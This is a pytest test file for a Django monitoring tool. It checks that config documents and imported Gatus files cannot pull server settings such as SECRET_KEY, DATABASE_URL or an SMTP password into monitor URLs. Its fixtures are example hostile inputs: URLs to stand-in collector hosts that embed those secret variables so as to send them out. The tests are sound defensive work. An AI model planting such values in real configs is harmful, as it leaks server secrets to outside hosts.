"""A document applied from the command line reads its ``${NAME}``s from the environment, but
never the server's own settings: a file from elsewhere (an imported Gatus config) naming
``${SECRET_KEY}`` or ``${DATABASE_URL}`` in a URL would have sent them to that URL with
every check and shown them to every member of the team."""

from __future__ import annotations

import pytest

from config.tests.test_plan_apply import run, write
from monitors.models import Monitor

pytestmark = pytest.mark.django_db

LEAKY = """\
monitors:
  - key: api
    name: API
    url: https://collector.example.org/?k=${SECRET_KEY}&db=${DATABASE_URL}
"""


def test_a_document_cannot_read_the_servers_settings(alice, tmp_path, monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "server-secret-key")
    monkeypatch.setenv("DATABASE_URL", "postgres://admin:pw@db/healthmon")

    code, out, err = run(
        "apply", "-f", str(write(tmp_path, LEAKY)), "--team", str(alice.personal_team.id)
    )

    assert code == 1
    assert not Monitor.objects.exists()
    assert "server-secret-key" not in out + err and "admin:pw" not in out + err
    assert [line.split(": ", 1)[1] for line in err.splitlines()] == [
        "monitors.api.url: The variable SECRET_KEY is a setting of this server; a document "
        "cannot read it.",
        "monitors.api.url: The variable DATABASE_URL is a setting of this server; a document "
        "cannot read it.",
    ]


def test_a_gatus_import_cannot_read_the_servers_settings(alice, tmp_path, monkeypatch):
    monkeypatch.setenv("EMAIL_HOST_PASSWORD", "smtp-password")
    gatus = write(
        tmp_path,
        "endpoints:\n  - name: api\n    url: https://x.example.org/?p=${EMAIL_HOST_PASSWORD}\n",
        "gatus.yaml",
    )

    code, out, err = run(
        "import", "gatus", str(gatus), "--team", str(alice.personal_team.id), "--apply"
    )

    assert code == 1
    assert not Monitor.objects.exists()
    assert "smtp-password" not in out + err


def test_other_environment_variables_are_still_read(alice, tmp_path, monkeypatch):
    monkeypatch.setenv("API_TOKEN", "t0ken")
    text = LEAKY.replace("?k=${SECRET_KEY}&db=${DATABASE_URL}", "?t=${API_TOKEN}")

    code, _, err = run(
        "apply", "-f", str(write(tmp_path, text)), "--team", str(alice.personal_team.id)
    )

    assert code == 0, err
    assert Monitor.objects.get().url == "https://collector.example.org/?t=t0ken"
